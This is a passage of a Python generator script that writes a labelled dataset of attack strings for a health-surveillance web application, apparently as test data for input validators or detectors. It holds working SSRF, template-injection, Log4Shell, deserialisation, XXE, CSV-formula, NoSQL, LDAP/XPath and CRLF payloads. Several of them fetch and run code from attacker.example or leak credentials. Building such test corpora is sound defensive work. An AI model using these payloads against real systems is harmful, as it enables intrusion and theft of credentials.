    return "exportpath-dotdot", "%s/%s%s" % (rng.choice(_TRAV_DIRS), "../" * depth, rng.choice(_TRAV_TARGETS))


# ---------------------------------------------------------------------------
# SSRF.  Context: a URL the server fetches (FHIR endpoint, DHIS2 import,
# shapefile/tile URL, alert webhook) or that a server-side HTML->PDF sitrep
# renderer loads.
# ---------------------------------------------------------------------------
SSRF = [
    ("plain-metadata_aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("datasource-metadata_azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("datasource-metadata+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("datasource-metadata+hex_ip", "http://0xa9fea9fe/latest/user-data"),
    ("datasource-metadata+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("datasource-metadata+ipv6_mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("webhook-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*/2%20*%20*%20*%20*%20curl%20attacker.example/r|sh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("datasource-localhost_actuator", "http://localhost:8080/actuator/env"),
    ("datasource-loopback+short_ip", "http://127.1/admin/"),
    ("datasource-loopback+zero_ip", "http://0/server-status"),
    ("datasource-loopback_ipv6_port", "http://[::1]:5432/"),
    ("datasource-internal_elastic", "http://10.0.0.5:9200/_cat/indices?v"),
    ("datasource-file_scheme", "file:///etc/passwd"),
    ("datasource-file_environ", "file:///proc/self/environ"),
    ("webhook-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("datasource-dns_rebinding", "http://ssrf-rebind.attacker.example:8080/fhir/metadata"),
    ("datasource-open_redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("datasource-userinfo_confusion", "https://fhir.lab-network.example.net@169.254.169.254/latest/meta-data/"),
    ("datasource-fragment_confusion", "http://169.254.169.254#@fhir.lab-network.example.net/"),
    ("datasource-allowlist_suffix", "http://fhir.lab-network.example.net.attacker.example/R4/metadata"),
    ("datasource-dns_to_loopback", "http://127.0.0.1.attacker.example:8080/admin/users"),
    ("datasource-ipv6_full_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/admin"),
    ("datasource-loopback+unicode_digits", "http://①②⑦.⓪.⓪.①:8080/internal/export"),
    ("datasource-metadata+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("datasource-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-docker_api", "http://127.0.0.1:2375/containers/json"),
    ("webhook-consul_kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("webhook-router_admin", "http://192.168.1.1/cgi-bin/config.exp"),
    ("datasource-internal_couchdb", "http://internal-db.surveillance.local:5984/_all_dbs"),
    ("sitrep-pdf_image", "![epi curve](http://169.254.169.254/latest/meta-data/iam/security-credentials/)"),
    ("sitrep-pdf_iframe_file", "<iframe src=\"file:///etc/passwd\" width=\"800\" height=\"600\"></iframe>"),
    ("sitrep-pdf_img_internal", "<img src=\"http://127.0.0.1:8080/admin/export?all=1\">"),
    ("datasource-jar_scheme", "jar:http://attacker.example/a.zip!/x.hl7"),
    ("datasource-netdoc_scheme", "netdoc:///etc/passwd"),
    ("datasource-internal_ftp", "ftp://10.0.3.4/backup/"),
    ("datasource-loopback+mixed_hex", "http://0x7f.1/"),
    ("datasource-loopback+octal_ip", "http://017700000001/"),
    ("datasource-loopback+decimal_ip", "http://2130706433:9000/minio/admin/v3/info"),
    ("datasource-metadata_gcp", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("datasource-metadata_alibaba", "http://100.100.100.200/latest/meta-data/"),
    ("datasource-metadata_ecs", "http://169.254.170.2/v2/credentials/"),
    ("datasource-metadata_aws_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-rabbitmq_default_creds", "http://guest:guest@localhost:15672/api/users"),
    ("webhook-gopher_http_post", "gopher://127.0.0.1:8080/_POST%20/admin/users%20HTTP/1.1%0D%0AHost:%20localhost%0D%0AContent-Type:%20application/json%0D%0AContent-Length:%2027%0D%0A%0D%0A%7B%22user%22:%22x%22,%22role%22:%22admin%22%7D"),
    ("datasource-loopback+octal_ip", "http://0177.0.0.1:8080/"),
    ("datasource-port_scan", "http://127.0.0.1:22/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost_port", "http://localhost:6379/"),
    ("plain-file_win", "file:///c:/windows/win.ini"),
    ("webhook-oob_probe", "http://ssrf-check.attacker.example/ping?src=fhir"),
    ("datasource-localhost+case_mix", "hTTp://LocalHost:8080/actuator/heapdump"),
    ("datasource-backslash_confusion", "http://127.0.0.1:80\\@fhir.lab-network.example.net/"),
]

_SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.12", "172.17.0.1", "192.168.10.5", "[::1]"]
_SSRF_PATHS = [(8080, "/admin/export?all=1"), (5000, "/internal/users"), (9090, "/api/v1/targets"),
               (3000, "/api/admin/settings"), (8983, "/solr/admin/cores"), (6443, "/api/v1/secrets")]


def tpl_ssrf(rng):
    port, path = rng.choice(_SSRF_PATHS)
    return "webhook-internal_service", "http://%s:%d%s" % (rng.choice(_SSRF_HOSTS), port, path)


# ---------------------------------------------------------------------------
# Code injection: server-side templates (sitrep / alert templates), expression
# languages, Log4Shell-style lookups in logged fields, deserialisation of
# uploaded sessions/configs, XXE in uploaded CDA/HL7 XML, prototype pollution
# in JSON filters, CSV/spreadsheet formulas in line-list exports, R/Python
# eval of case definitions, LaTeX sitrep rendering, SSI/ESI.
# ---------------------------------------------------------------------------
CODE = [
    ("sitrep-jinja2_rce", "Sitrep W07 — {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("sitrep-jinja2_config", "Key figures: {{ config.items() }}"),
    ("sitrep-jinja2_builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("sitrep-jinja2_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("sitrep-jinja2_popen_loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("sitrep-jinja2_lipsum", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("sitrep-jinja2_attr+hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("plain-ssti_probe", "{{7*'7'}}"),
    ("plain-erb_probe", "<%= 7*7 %>"),
    ("plain-el_probe", "#{7*7}"),
    ("plain-jndi_rmi", "${jndi:rmi://198.51.100.61:1099/a}"),
    ("sitrep-twig_filter", "{{['id']|filter('system')}}"),
    ("sitrep-twig_undefined_filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("sitrep-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("sitrep-velocity_runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("mailalert-erb_backtick", "Measles alert for <%= `id` %>"),
    ("mailalert-erb_file_read", "<%= File.read('/etc/passwd') %>"),
    ("filter-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("filter-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("filter-ognl", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}"),
    ("casedef-jsp_el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("sitrep-pug_interp", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("sitrep-ejs", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("sitrep-mako", "${__import__('os').popen('id').read()}"),
    ("sitrep-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("sitrep-django_debug", "Sitrep W07 {% debug %}"),
    ("sitrep-smarty_function", "{system('cat /etc/passwd')}"),
    ("sitrep-jinja2_lipsum+unicode_escape", "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os'].popen('id').read() }}"),
    ("casedef-jinja2_file_read", "Case definition v4: fever >= {{ 38.0 }} C AND {{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("plain-jndi_ldap", "${jndi:ldap://203.0.113.33:1389/Exploit}"),
    ("labcomment-jndi_dns", "Lab comment: ${jndi:dns://${env:HOSTNAME}.l4j.attacker.example/x}"),
    ("casenote-jndi+lookup_nesting", "Fever 39 ${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}"),
    ("contactlog-jndi+default_value", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.61/o}"),
    ("weeklabel-jndi_nested_scheme", "2024-W07 ${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example:1389/c}"),
    ("labcomment-jndi_env_leak", "${jndi:ldap://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("casenote-jndi_sys_leak", "Ct 31 ${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("contactlog-jndi+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fx%7D"),
    ("filter-jndi+unicode_escape", "{\"district\": \"\\u0024\\u007bjndi:ldap://203.0.113.33/z}\"}"),
    ("upload-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("upload-pickle_protocol0", "cposix\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("config-yaml_apply", "!!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
    ("config-yaml_subprocess", "week: 2024-W07\nfilters: !!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("config-snakeyaml_classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("session-php_object", "O:8:\"Exporter\":1:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";}"),
    ("filter-jsonnet_typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("filter-jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.33:1389/obj\",\"autoCommit\":true}]"),
    ("filter-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.61:1099/x\",\"autoCommit\":true}"),
    ("session-node_serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("session-jsonpickle_reduce", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("upload-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<ClinicalDocument><title>&x;</title></ClinicalDocument>"),
    ("upload-xxe_oob_dtd", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]>\n<labResult><code>94500-6</code></labResult>"),
    ("upload-xxe_ssrf", "<!DOCTYPE o [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><observation><value>&m;</value></observation>"),
    ("upload-xxe_php_filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&s;</r>"),
    ("upload-xml_entity_expansion", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><note>&e;</note>"),
    ("upload-xinclude", "<report xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></report>"),
    ("upload-svg_xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("upload-xslt_java_ext", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("filter-proto_pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("filter-constructor_prototype", "{\"filters\":{\"disease\":\"measles\"},\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("filter-proto_pollution_ejs_gadget", "filter[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("filter-proto_pollution_dotted", "__proto__.canExportPII=true"),
    ("filter-proto_pollution+unicode_escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"canExport\":true}}"),
    ("linelist-csv_hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for lab result\")"),
    ("linelist-csv_dde", "=cmd|'/c powershell -nop -w hidden -c iwr attacker.example/p.ps1|iex'!Z9"),
    ("linelist-csv_dde_at", "@SUM(1+9)*cmd|' /C explorer https://attacker.example'!A0"),
    ("linelist-csv_dde_minus", "-2+3+cmd|' /C whoami'!E1"),
    ("linelist-csv_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/x?\",CONCATENATE(A2:E2)),\"//a\")"),
    ("linelist-csv_webservice", "=WEBSERVICE(\"https://attacker.example/c?\"&ENCODEURL(C2))"),
    ("weeklabel-r_eval", "W07'));system('curl attacker.example/r|sh');(('"),
    ("casedef-python_eval", "fever >= 38.0 and __import__('os').system('curl attacker.example/e|sh') == 0"),
    ("sitrep-latex_write18", "\\immediate\\write18{curl -s attacker.example/t | sh}"),
    ("sitrep-latex_input", "Annex A: \\input{/etc/passwd}"),
    ("filter-spel_expression", "disease == 'measles' and T(java.lang.Runtime).getRuntime().exec('id') != null"),
    ("filter-node_eval", "cases > 10 && require('child_process').execSync('id')"),
    ("sitrep-ssi_exec", "<!--#exec cmd=\"id\" -->"),
    ("sitrep-esi_include", "<esi:include src=\"http://attacker.example/esi\"/>"),
]

_CODE_FIELDS = ["casenote", "labcomment", "contactlog", "weeklabel", "useragent"]
_CODE_PREFIXES = ["Onset 03/03", "Ct 22.9", "Day 4 of 21", "2024-W%02d", "EpiApp/3.2 (Android 14)"]
_CODE_TAILS = [
    ("${jndi:ldap://%s/%s}", "jndi_ldap"),
    ("${jndi:rmi://%s/%s}", "jndi_rmi"),
    ("${jndi:dns://%s/%s}", "jndi_dns"),
]
_CODE_HOSTS = ["attacker.example:1389", "203.0.113.%d", "198.51.100.%d:1099", "l4j.attacker.example"]


def tpl_code(rng):
    i = rng.randrange(len(_CODE_FIELDS))
    prefix = _CODE_PREFIXES[i]
    if "%02d" in prefix:
        prefix = prefix % rng.randint(1, 52)
    tail, tech = rng.choice(_CODE_TAILS)
    host = rng.choice(_CODE_HOSTS)
    if "%d" in host:
        host = host % rng.randint(2, 250)
    return "%s-%s" % (_CODE_FIELDS[i], tech), "%s %s" % (prefix, tail % (host, "o%d" % rng.randint(1, 999)))


# ---------------------------------------------------------------------------
# NoSQL injection (MongoDB / CouchDB / Elasticsearch): JSON or query-string
# filters passed to the driver unchanged, or concatenated into $where JS.
# ---------------------------------------------------------------------------
NOSQLI = [
    ("filter-ne_operator", "{\"district\": {\"$ne\": null}}"),
    ("login-gt_bypass", "{\"username\": \"epi_admin\", \"password\": {\"$gt\": \"\"}}"),
    ("filter-qs_operator", "district[$ne]=x"),
    ("login-regex_probe", "password[$regex]=^a.*"),
    ("filter-where_time", "{\"case_status\": \"confirmed\", \"$where\": \"sleep(5000) || true\"}"),
    ("weeklabel-where_js_dos", "2024-W07'; while(true){}; var x='"),
    ("weeklabel-where_js_boolean", "2024-W07' || this.role == 'admin' || 'a'=='b"),
    ("filter-or_empty", "{\"epi_week\": {\"$in\": [\"2024-W07\"]}, \"$or\": [{}, {\"deleted\": true}]}"),
    ("filter-lookup_pipeline", "[{\"$lookup\": {\"from\": \"app_users\", \"localField\": \"reporter\", \"foreignField\": \"username\", \"as\": \"u\"}}]"),
    ("filter-regex_all", "{\"lab_result\": {\"$regex\": \".*\", \"$options\": \"si\"}, \"consent_share\": {\"$exists\": false}}"),
    ("login-nin_bypass", "username=admin&password[$nin][]=x"),
    ("filter-regex_redos", "{\"name\": {\"$regex\": \"^(a+)+$\"}}"),
    ("login-ne_operator+unicode_escape", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": \"x\"}}"),
    ("login-ne_operator+urlenc", "username=admin&password%5B%24ne%5D="),
    ("filter-couch_mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"phone\", \"address\"]}"),
    ("filter-es_query_string", "{\"query\": {\"query_string\": {\"query\": \"* OR role:admin\"}}, \"size\": 10000}"),
    ("filter-where_keys", "{\"$where\": \"Object.keys(this).join(',').length > 0 && sleep(4000)\"}"),
    ("filter-qs_exists", "case_status[$ne]=discarded&pii[$exists]=true"),
    ("filter-consent_bypass", "{\"epi_week\": \"2024-W07\", \"consent_share\": {\"$in\": [true, false, null]}}"),
    ("filter-expr_function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return Object.keys(this).length > 0 }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("plain-where_tautology", "'; return true; var x='"),
    ("plain-gt_operator", "{\"$gt\": \"\"}"),
]

_NOSQL_FIELDS = ["district", "epi_week", "reporter", "case_status", "lab_result"]
_NOSQL_OPS = [("$ne", "null", "ne_operator"), ("$gt", "\"\"", "gt_operator"),
              ("$regex", "\"^.\"", "regex_all"), ("$exists", "true", "exists_operator")]


def tpl_nosqli(rng):
    field = rng.choice(_NOSQL_FIELDS)
    op, arg, tech = rng.choice(_NOSQL_OPS)
    if rng.random() < 0.5:
        return "filter-%s" % tech, "{\"%s\": {\"%s\": %s}, \"limit\": %d}" % (field, op, arg, rng.choice([500, 1000, 5000]))
    return "filter-qs_%s" % tech, "%s[%s]=%s&limit=%d" % (field, op, arg.strip("\"") or "x", rng.choice([500, 1000, 5000]))


# ---------------------------------------------------------------------------
# CRLF: HTTP response header injection (export file name in
# Content-Disposition, redirect target), log/audit-line forging, e-mail header
# and SMTP injection in alert mails.
# ---------------------------------------------------------------------------
CRLF = [
    ("header-set_cookie", "2024-W07\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-response_split", "linelist_W07.csv\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-location+urlenc", "linelist.csv%0d%0aLocation:%20https://attacker.example/"),
    ("header-injected+double_urlenc", "W07%250d%250aX-Injected:%20yes"),
    ("header-set_cookie+unicode_truncation", "W07\u560d\u560aSet-Cookie: x=1"),
    ("auditlog-forged_entry", "Specimen received\n2024-03-14T09:12:03Z INFO user=epi_admin action=DELETE_CASE case=SUR-2024-00412 result=OK"),
    ("contactlog-forged_audit", "Called 3x, no answer\r\n[2024-03-14 17:22:01] AUDIT login success user=supervisor ip=10.0.0.4"),
    ("mailalert-bcc", "Measles alert W07\r\nBcc: list@attacker.example"),
    ("mailalert-cc_recipient", "epi-team@health.example.org\r\nCc: dump@attacker.example\r\nSubject: fwd"),
    ("mailalert-body_html", "Alert\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Re-login to view case</a>"),
    ("mailalert-smtp_smuggle", "Cholera alert\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@health.example.org>\r\nDATA\r\nphish\r\n."),
    ("mailalert-bcc+urlenc", "Dengue%20W07%0aBcc:leak@attacker.example"),
    ("header-refresh+urlenc", "/dashboard?week=2024-W07%0d%0aRefresh:0;url=https://attacker.example"),
    ("auditlog-ansi_escape", "ok\u001b[2J\u001b[1;31mSYSTEM COMPROMISED - call +1-555-0100\u001b[0m"),
    ("auditlog-json_field", "W07\",\"level\":\"INFO\",\"user\":\"admin\",\"action\":\"export_all\",\"x\":\""),
    ("header-xff", "fr-FR\r\nX-Forwarded-For: 127.0.0.1"),
    ("header-content_type_lf", "W07\nContent-Type: text/html"),
    ("header-set_cookie_cr", "W07\rSet-Cookie: admin=1"),
    ("auditlog-syslog_forge", "ok\n<14>Mar 14 09:00:00 surv-app auth: accepted password for root from 10.0.0.9"),
    ("header-injected+unicode_escape", "W07\\u000d\\u000aX-Admin: true"),
    ("contactlog-forged_status", "Contact C-0415 fever day 6\n\n[2024-03-15 08:00:00] INFO case SUR-2024-00588 status=discarded by=supervisor"),
    ("redirect-location", "https://surveillance.example.org/\r\nLocation: https://attacker.example/"),
    ("header-set_cookie+utf8_truncation", "W07%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("auditlog-forged+unicode_linesep", "Lab OK\u2028[INFO] admin export of full line list approved by director"),
    ("header-response_split+urlenc", "Sitrep_W07.pdf%0d%0a%0d%0a<html><body>Session expired - <a href=https://attacker.example>log in</a></body></html>"),
    ("mailalert-to_header", "Legionella cluster\nTo: all-staff@health.example.org\nReply-To: soc@attacker.example"),
    ("plain-crlf_header", "%0d%0aSet-Cookie:crlf=1"),
    ("plain-crlf_raw", "\r\nSet-Cookie: plain=1"),
    ("auditlog-forged_login", "2024-W07\r\n2024-03-15 02:11:09 WARN auth failure user=analyst03 (locked)\r\n2024-03-15 02:11:10 INFO auth success user=admin mfa=skipped"),
]

_CRLF_PREFIXES = ["linelist_2024-W%02d.csv", "Sitrep_%02d.pdf", "contacts_CL-2024-0%02d.csv"]
_CRLF_HEADERS = ["Set-Cookie: sid=fixed%d; Path=/", "X-Frame-Options: ALLOWALL-%d", "Access-Control-Allow-Origin: https://attacker.example/%d"]


def tpl_crlf(rng):
    p = rng.choice(_CRLF_PREFIXES) % rng.randint(1, 52)
    h = rng.choice(_CRLF_HEADERS) % rng.randint(1, 99)
    return "header-injected_header", "%s\r\n%s" % (p, h)


# ---------------------------------------------------------------------------
# LDAP filter injection (lab-staff directory, login) and XPath injection
# (queries over uploaded CDA XML documents / XML user store).
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("login-ldap_filter_break", "*)(uid=*))(|(uid=*"),
    ("login-ldap_true_filter", "epi_admin)(&)"),
    ("staffdir-ldap_group_probe", "*)(memberOf=cn=admins,ou=groups,dc=health,dc=example)"),
    ("login-ldap_password_probe", "jdoe)(userPassword=a*"),
    ("staffdir-ldap_or_inject", "lab*)(|(mail=*)(telephoneNumber=*)"),
    ("staffdir-ldap_filter_break+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("staffdir-ldap_attr_enum", "lab*)(telephoneNumber=*"),
    ("login-ldap_filter_break+nullbyte", "*)(objectClass=*))%00"),
    ("staffdir-ldap_negation", "x)(!(cn=nonexistent)"),
    ("cdaquery-xpath_name_probe", "x' or name()='ClinicalDocument' or 'a'='b"),
    ("plain-xpath_tautology", "' or 1=1 or ''='"),
    ("plain-ldap_filter_break", "*)(cn=*))(|(cn=*"),
    ("district-xpath_union", "Nord'] | //user/password | //x['"),
    ("login-xpath_blind_substring", "x' or substring(//user[1]/password,1,1)='a' and '1'='1"),
    ("cdaquery-xpath_count", "' or count(/*)=1 or '"),
    ("loinc-xpath_dump", "94500-6'] | /*[1] | //*['"),
    ("cdaquery-xpath_doc_oob", "x' or doc(concat('http://attacker.example/',//user[1]/password))/a or '"),
    ("cdaquery-xpath_blind_length", "' or string-length(name(/*[1]))=16 or '"),
    ("login-xpath_tautology+urlenc", "x%27%20or%20%271%27%3D%271"),
    ("cdaquery-xpath_pred_break", "SUR-2024-00412')] | //patient/ssn | //a[('"),
]

_LDAP_ATTRS = ["mail", "telephoneNumber", "homeDirectory", "employeeNumber", "description"]


def tpl_ldap_xpath(rng):
    return "staffdir-ldap_attr_enum", "%s*)(%s=*" % (rng.choice(["lab", "epi", "nrl", "ipc", "field"]), rng.choice(_LDAP_ATTRS))


# ---------------------------------------------------------------------------
LITERALS = {
    "sqli": SQLI,
    "xss": XSS,
    "cmdi": CMDI,
    "traversal": TRAVERSAL,
    "ssrf": SSRF,
    "code": CODE,
    "nosqli": NOSQLI,
    "crlf": CRLF,
    "ldap-xpath": LDAP_XPATH,
}

TEMPLATES = {
    "sqli": (tpl_sqli, 8),
    "xss": (tpl_xss, 6),
    "cmdi": (tpl_cmdi, 6),
    "traversal": (tpl_traversal, 6),
    "ssrf": (tpl_ssrf, 3),
    "code": (tpl_code, 4),
    "nosqli": (tpl_nosqli, 3),
    "crlf": (tpl_crlf, 3),
    "ldap-xpath": (tpl_ldap_xpath, 2),
}


def build():
    rng = random.Random(SEED)
    seen = set()
    for cat in CATEGORY_ORDER:
        for cls, v in LITERALS[cat]:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
    rows = []
    stats = []
    for cat in CATEGORY_ORDER:
        items = list(LITERALS[cat])
        fn, n_tpl = TEMPLATES[cat]
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit("template for %s cannot produce enough unique values" % cat)
            cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
            made += 1
        stats.append((cat, len(items), len(LITERALS[cat])))
        for cls, v in items:
            rows.append({"category": cat, "class": cls, "label": "attack", "value": v})
    return rows, stats


def check(rows):
    values = [r["value"] for r in rows]
    if len(values) != len(set(values)):
        raise SystemExit("duplicate values in output")
    for r in rows:
        v, cls = r["value"], r["class"]
        if not isinstance(v, str) or not v.strip():
            raise SystemExit("empty value in %s" % r["category"])
        if len(v) > MAX_LEN:
            raise SystemExit("value too long (%d) in %s" % (len(v), r["category"]))
        ctx, sep, rest = cls.partition("-")
        if not sep or not ctx or not rest or rest.startswith("+"):
            raise SystemExit("bad class %r" % cls)
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [v for v in values if v in bvals]
        if clash:
            raise SystemExit("value present in benign.jsonl too: %r" % clash[0])


def main():
    rows, stats = build()
    check(rows)
    out = []
    for i, r in enumerate(rows, 1):
        obj = {"id": "%s-%05d" % (PREFIX, i), "category": r["category"], "class": r["class"],
               "label": r["label"], "value": r["value"]}
        out.append(json.dumps(obj, ensure_ascii=False) + "\n")
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.writelines(out)
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print("%-11s %3d  literals %3d" % (cat, n, lit))
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print("%-11s %3d  literals %3d (%.0f%%)  plain %d  encoded %d" % (
        "TOTAL", len(rows), total_lit, 100.0 * total_lit / len(rows), n_plain, n_enc))
    print("wrote", path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
